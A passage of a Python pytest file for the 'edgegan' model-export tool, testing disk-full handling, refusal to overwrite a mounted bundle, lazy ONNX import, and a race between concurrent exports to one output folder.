            raise OSError(errno.ENOSPC, "No space left on device", str(dst))
        return real_copy(src, dst, *args, **kwargs)

    monkeypatch.setattr(api.shutil, "copy2", full)
    with pytest.raises(OSError, match="No space left"):
        export(runs["uncond"], out=out, fp16=True)
    assert list(out.iterdir()) == [] and [p.name for p in tmp_path.iterdir()] == ["mnt"]
    monkeypatch.setattr(api.shutil, "copy2", real_copy)
    meta = export(runs["uncond"], out=out, fp16=True)
    assert read_bundle(out) == meta and is_bundle(out)
    assert sorted(p.name for p in out.iterdir()) == sorted(
        ["edgegan.json", "model.onnx", "model.fp16.onnx"]
    )
    assert [p.name for p in tmp_path.iterdir()] == ["mnt"]  # no temporary folder left
    monkeypatch.setattr(api.os.path, "ismount", lambda p: Path(p) == out)
    for overwrite in (False, True):  # without --overwrite it was told to pass --overwrite
        with pytest.raises(EdgeganError, match=r"--out .*mnt is a mount point holding a bundl"):
            export(runs["uncond"], out=out, overwrite=overwrite)
    assert read_bundle(out) == meta


def test_a_bundle_graph_is_checked_without_importing_onnx(cond_bundle):
    """The external-data check parsed every graph with onnx (0.1-0.2 s of importing it, a
    third of `infer BUNDLE --backend onnxruntime --num 1`): a graph whose bytes hold no
    "location" key has no external data, and is not parsed."""
    bundle, _ = cond_bundle
    code = (
        "import sys\n"
        "from edgegan.runtime import open_runner\n"
        "from edgegan.sampling import make_inputs\n"
        f"with open_runner({str(bundle)!r}, 'onnxruntime') as r:\n"
        "    r.run(make_inputs(r.spec, 1, seed=0))\n"
        "print('onnx' in sys.modules)\n"
    )
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0 and proc.stdout.strip() == "False", proc.stderr


def test_an_export_finding_its_new_out_filled_meanwhile_does_not_replace_it(
    runs, uncond_bundle, tmp_path, monkeypatch
):
    """Two exports into one new --out both passed the check and both succeeded: the later
    one set the earlier one's bundle aside and put its own in its place."""
    from edgegan.export import api

    out = tmp_path / "o"
    real = api._check_out
    calls = []

    def then_filled(o, overwrite, run_dir=None):
        real(o, overwrite, run_dir)
        calls.append(o)
        if len(calls) == 2:  # the last check passed: another export installs now
            shutil.copytree(uncond_bundle[0], out)

    monkeypatch.setattr(api, "_check_out", then_filled)
    with pytest.raises(EdgeganError, match="was filled by another export while this one ran"):
        export(runs["uncond"], out=out)
    assert (out / "edgegan.json").read_bytes() == (uncond_bundle[0] / "edgegan.json").read_bytes()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["o"]  # its own work taken back
